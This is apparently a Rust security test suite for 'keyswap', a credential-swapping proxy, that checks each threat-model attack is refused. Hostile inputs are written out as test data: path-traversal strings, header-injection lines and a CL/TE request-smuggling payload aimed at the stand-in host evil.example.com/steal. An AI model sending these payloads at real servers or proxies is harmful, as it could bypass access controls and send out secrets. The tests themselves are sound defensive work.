//! The threat model of DESIGN.md, one named test per attack, each asserting the exact
//! decision: mismatched SNI / Host / :authority / absolute-form targets, path tricks,
//! request smuggling, oversized input, and the leaf cache under a burst of first connections.

use keyswap_tests::client::{self, Alpn, RawProxyStream, Tunnel};
use keyswap_tests::harness::{bearer, TestEnv, AGENT_TOKEN, API_HOST, OTHER_HOST};
use keyswap_tests::secrets::GITHUB_PLACEHOLDER;

#[tokio::test]
async fn sni_that_differs_from_connect_host_is_refused_at_handshake() {
    let env = TestEnv::start().await;
    let mut opts = env.agent(&format!("{API_HOST}:443"), Alpn::Both);
    opts.sni = Some(OTHER_HOST.to_string());
    let result = client::connect_tunnel(&opts).await;
    assert!(
        !matches!(result, Ok(Tunnel::Open(_))),
        "a TLS session with a mismatched SNI was accepted"
    );
    let record = env.audit_where(|r| r["reason"] == "sni_mismatch").await;
    assert_eq!(record["host"], API_HOST);
    assert_eq!(record["decision"], "denied");
    assert!(
        env.proxy.leaves_minted() == 0,
        "a certificate was shown for a mismatched SNI"
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn host_header_that_differs_from_connect_host_is_refused() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut conn = env.open(&opts).await;
    let before = env.upstream.seen_count();
    let req = client::request("GET", OTHER_HOST, "/echo/x", false)
        .header("authorization", bearer(GITHUB_PLACEHOLDER))
        .body(client::empty())
        .unwrap();
    let reply = env.reply(conn.send(req).await.expect("response")).await;
    assert_eq!(
        (reply.status, reply.reason()),
        (403, Some("authority_mismatch"))
    );
    assert_eq!(env.upstream.seen_count(), before);
    env.assert_no_leaks();
}

#[tokio::test]
async fn h2_authority_that_differs_from_connect_host_is_refused() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http2Only);
    let mut conn = env.open(&opts).await;
    assert!(conn.negotiated_h2());
    let req = client::request("GET", OTHER_HOST, "/echo/x", true)
        .body(client::empty())
        .unwrap();
    let reply = env.reply(conn.send(req).await.expect("response")).await;
    assert_eq!(
        (reply.status, reply.reason()),
        (403, Some("authority_mismatch"))
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn absolute_form_uri_for_another_host_inside_tunnel_is_refused() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut conn = env.open(&opts).await;
    let req = http::Request::builder()
        .method("GET")
        .uri(format!("https://{OTHER_HOST}/echo/x"))
        .header("host", API_HOST)
        .body(client::empty())
        .unwrap();
    let reply = env.reply(conn.send(req).await.expect("response")).await;
    assert_eq!(
        (reply.status, reply.reason()),
        (403, Some("authority_mismatch"))
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn path_tricks_are_normalised_or_refused() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    // (path sent, expected status, expected reason, path the upstream must see if allowed)
    let cases: &[(&str, u16, Option<&str>, Option<&str>)] = &[
        ("/echo/../admin", 403, Some("route_not_allowed"), None),
        ("/echo/%2e%2e/admin", 403, Some("route_not_allowed"), None),
        ("/echo/%2E%2e/%2e%2e/admin", 400, Some("bad_request"), None),
        ("/echo%2fadmin", 400, Some("bad_request"), None),
        ("/echo/..%2fadmin", 400, Some("bad_request"), None),
        ("/echo/..;/admin", 400, Some("bad_request"), None),
        ("/echo/%5c..%5cadmin", 400, Some("bad_request"), None),
        ("/ECHO/x", 403, Some("route_not_allowed"), None),
        ("//echo//x", 200, None, Some("/echo/x")),
        ("/public/../echo/%7Euser", 200, None, Some("/echo/~user")),
    ];
    for (path, status, reason, upstream_path) in cases {
        let reply = env
            .request(
                &opts,
                "GET",
                path,
                &[("authorization", &bearer(GITHUB_PLACEHOLDER))],
            )
            .await;
        assert_eq!(
            (reply.status, reply.reason()),
            (*status, *reason),
            "path {path}"
        );
        if let Some(expected) = upstream_path {
            let seen = env.upstream.seen().last().map(|r| r.path_and_query.clone());
            assert_eq!(seen.as_deref(), Some(*expected), "path {path} forwarded as");
        }
    }
    assert!(
        env.upstream
            .seen()
            .iter()
            .all(|r| !r.path_and_query.contains("admin")),
        "a path trick reached /admin"
    );
    env.assert_no_leaks();
}

fn proxy_auth() -> String {
    use base64::Engine;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("agent:{AGENT_TOKEN}"))
    )
}

#[tokio::test]
async fn smuggled_request_behind_cl_te_conflict_gets_its_own_decision() {
    let env = TestEnv::start().await;
    let mut raw = RawProxyStream::connect(env.proxy.addr()).await.unwrap();
    let auth = proxy_auth();
    let host = keyswap_tests::harness::PLAIN_HOST;
    // A front end reading Content-Length would take the second request as body; keyswap
    // reads Transfer-Encoding and re-frames the request for the upstream.
    let smuggled = format!(
        "GET http://evil.example.com/steal HTTP/1.1\r\nHost: evil.example.com\r\nProxy-Authorization: {auth}\r\n\r\n"
    );
    let payload = format!(
        "POST http://{host}/echo/a HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {auth}\r\n\
         Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
        5 + smuggled.len()
    );
    raw.send_raw(payload.as_bytes()).await.unwrap();
    let first = raw.read_response_head().await.unwrap();
    assert_eq!(first.status, 200);
    let body = raw.read_body(&first).await.unwrap();
    let echoed: serde_json::Value = serde_json::from_slice(&body).expect("echo json");
    assert_eq!(echoed["path"], "/echo/a");
    // RFC 9112 §6.3: after a message with both framings the connection must close, so the
    // smuggled bytes are never read as a request. (Were they, they would be refused on their
    // own: evil.example.com is in no allowlist.)
    match raw.read_response_head().await {
        Err(_) => {}
        Ok(second) => assert_eq!(
            (second.status, second.header("x-keyswap-reason")),
            (403, Some("host_not_allowed"))
        ),
    }
    assert_eq!(
        env.plain.seen_count(),
        1,
        "exactly the first request reached upstream"
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn obs_fold_and_bare_cr_are_rejected_and_connection_ends() {
    let env = TestEnv::start().await;
    let host = keyswap_tests::harness::PLAIN_HOST;
    let auth = proxy_auth();
    for bad in [
        format!("GET http://{host}/echo/a HTTP/1.1\r\nHost: {host}\r\nX-A: a\r\n folded\r\nProxy-Authorization: {auth}\r\n\r\n"),
        format!("GET http://{host}/echo/a HTTP/1.1\r\nHost: {host}\r\nX-A: a\rInjected: 1\r\nProxy-Authorization: {auth}\r\n\r\n"),
    ] {
        let mut raw = RawProxyStream::connect(env.proxy.addr()).await.unwrap();
        raw.send_raw(bad.as_bytes()).await.unwrap();
        let head = raw.read_response_head().await.unwrap();
        assert_eq!(head.status, 400);
        // The connection must end: a second request gets nothing back.
        let _ = raw.send_raw(format!("GET http://{host}/echo/b HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes()).await;
        assert!(raw.read_response_head().await.is_err(), "connection stayed open after a malformed request");
    }
    assert!(
        env.plain.seen().is_empty(),
        "a malformed request reached upstream"
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn oversized_headers_are_refused_and_other_connections_continue() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut good = env.open(&opts).await;
    let host = keyswap_tests::harness::PLAIN_HOST;
    let mut raw = RawProxyStream::connect(env.proxy.addr()).await.unwrap();
    let huge = "a".repeat(200 * 1024);
    let _ = raw
        .send_raw(
            format!("GET http://{host}/echo/a HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\n\r\n")
                .as_bytes(),
        )
        .await;
    let head = raw
        .read_response_head()
        .await
        .expect("an answer to the oversized head, not a silent close");
    assert_eq!(head.status, 431, "an oversized head gets 431");
    let req = client::request("GET", API_HOST, "/echo/still-fine", false)
        .body(client::empty())
        .unwrap();
    let reply = env
        .reply(good.send(req).await.expect("other connection unaffected"))
        .await;
    assert_eq!(reply.status, 200);
    env.assert_no_leaks();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leaf_is_minted_once_under_fifty_concurrent_first_connections() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{OTHER_HOST}:443"), Alpn::Http1Only);
    let mut tasks = Vec::new();
    for _ in 0..50 {
        let opts = opts.clone();
        tasks.push(tokio::spawn(async move {
            match client::connect_tunnel(&opts).await.expect("tunnel") {
                Tunnel::Open(_) => true,
                Tunnel::Refused { .. } => false,
            }
        }));
    }
    for t in tasks {
        assert!(t.await.unwrap(), "a tunnel was refused");
    }
    assert_eq!(env.proxy.leaves_minted(), 1);
    env.assert_no_leaks();
}

#[tokio::test]
async fn reload_applies_to_open_connections_and_revokes_rules() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut conn = env.open(&opts).await;
    let send = |path: &str| {
        client::request("GET", API_HOST, path, false)
            .body(client::empty())
            .unwrap()
    };
    let reply = env.reply(conn.send(send("/public/a")).await.unwrap()).await;
    assert_ne!(reply.reason(), Some("route_not_allowed"));
    let without_public = env
        .config_yaml
        .replace("paths: [\"/public/**\"]", "paths: [\"/nothing-public/**\"]");
    let config = keyswap_config::load_str(
        &without_public,
        &env.dir.path().join("keyswap.yaml"),
        &keyswap_tests::harness::test_env_values(),
    )
    .expect("valid config");
    env.proxy.reload(config).expect("reload");
    let reply = env.reply(conn.send(send("/public/a")).await.unwrap()).await;
    assert_eq!(
        (reply.status, reply.reason()),
        (403, Some("route_not_allowed"))
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn h2c_upgrade_is_not_spliced() {
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut conn = env.open(&opts).await;
    for upgrade in ["h2c", "websocket, h2c", "TLS/1.2"] {
        let req = client::request("GET", API_HOST, "/echo/upgrade", false)
            .header("connection", "Upgrade, HTTP2-Settings")
            .header("upgrade", upgrade)
            .header("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA")
            .body(client::empty())
            .unwrap();
        let reply = env.reply(conn.send(req).await.expect("response")).await;
        assert_eq!(reply.status, 200, "{upgrade}: an ordinary answer, not 101");
        let echoed: serde_json::Value = serde_json::from_str(&reply.body).unwrap();
        let headers = &echoed["headers"];
        for stripped in ["upgrade", "http2-settings", "connection"] {
            assert!(
                headers.get(stripped).is_none(),
                "{upgrade}: the upstream saw {stripped}"
            );
        }
    }
    // The connection still carries decided requests: a route the task may not use is refused.
    let req = client::request("DELETE", API_HOST, "/echo/x", false)
        .body(client::empty())
        .unwrap();
    let reply = env.reply(conn.send(req).await.expect("response")).await;
    assert_eq!(
        (reply.status, reply.reason()),
        (403, Some("route_not_allowed"))
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn https_grant_is_never_sent_over_http() {
    // api.upstream.test grants github on HTTPS (a rule without scheme or port). The same host
    // in plain HTTP matches no rule, so the placeholder is never swapped into cleartext.
    let env = TestEnv::start().await;
    let before = (env.upstream.seen_count(), env.plain.seen_count());
    for port in ["", ":443"] {
        let req = http::Request::builder()
            .method("GET")
            .uri(format!("http://{API_HOST}{port}/echo/cleartext"))
            .header("host", format!("{API_HOST}{port}"))
            .header("authorization", bearer(GITHUB_PLACEHOLDER))
            .body(client::empty())
            .unwrap();
        let resp = client::plain_proxy_request(
            env.proxy.addr(),
            Some(("agent", keyswap_tests::harness::AGENT_TOKEN)),
            req,
        )
        .await
        .expect("plain response");
        let reply = env.reply(resp).await;
        assert_eq!(
            (reply.status, reply.reason()),
            (403, Some("host_not_allowed")),
            "http://{API_HOST}{port}"
        );
    }
    assert_eq!(
        (env.upstream.seen_count(), env.plain.seen_count()),
        before,
        "nothing was dialled"
    );
    env.assert_no_leaks();
}

#[tokio::test]
async fn head_limit_holds_for_a_head_sent_in_one_piece() {
    // 100 fields of 1,000 bytes: about 100 KiB, written at once inside the tunnel.
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let mut conn = env.open(&opts).await;
    let before = env.upstream.seen_count();
    let mut builder = client::request("GET", API_HOST, "/echo/huge-head", false);
    for i in 0..100 {
        builder = builder.header(format!("x-filler-{i}"), "f".repeat(1000));
    }
    let resp = conn
        .send(builder.body(client::empty()).unwrap())
        .await
        .expect("an answer to the oversized head, not a silent close");
    let reply = env.reply(resp).await;
    assert!(
        reply.status == 400 || reply.status == 431,
        "an oversized head is refused: {}",
        reply.status
    );
    assert_eq!(env.upstream.seen_count(), before, "the upstream saw it");
    env.assert_no_leaks();
}

#[tokio::test]
async fn method_override_is_decided_as_the_method_it_names() {
    // The api.upstream.test rule for /echo allows GET, POST and HEAD only.
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Both);
    let cases = [
        ("x-http-method-override", "DELETE", 403),
        ("x-http-method", "put", 403),
        ("x-method-override", "PATCH", 403),
        ("x-http-method-override", "POST", 200),
    ];
    for (name, method, status) in cases {
        let reply = env
            .request(&opts, "GET", "/echo/override", &[(name, method)])
            .await;
        assert_eq!(reply.status, status, "{name}: {method}");
        if status == 403 {
            assert_eq!(
                reply.reason(),
                Some("route_not_allowed"),
                "{name}: {method}"
            );
        }
    }
    env.assert_no_leaks();
}

#[tokio::test]
async fn range_requests_cannot_cut_a_value_where_secrets_go() {
    // api.upstream.test has rules granting github: Range and If-Range never reach it.
    let env = TestEnv::start().await;
    let opts = env.agent(&format!("{API_HOST}:443"), Alpn::Http1Only);
    let reply = env
        .request(
            &opts,
            "GET",
            "/echo/range",
            &[("range", "bytes=0-9"), ("if-range", "\"etag\"")],
        )
        .await;
    assert_eq!(reply.status, 200);
    let echoed: serde_json::Value = serde_json::from_str(&reply.body).unwrap();
    assert!(echoed["headers"].get("range").is_none(), "Range forwarded");
    assert!(
        echoed["headers"].get("if-range").is_none(),
        "If-Range forwarded"
    );
    env.assert_no_leaks();
}
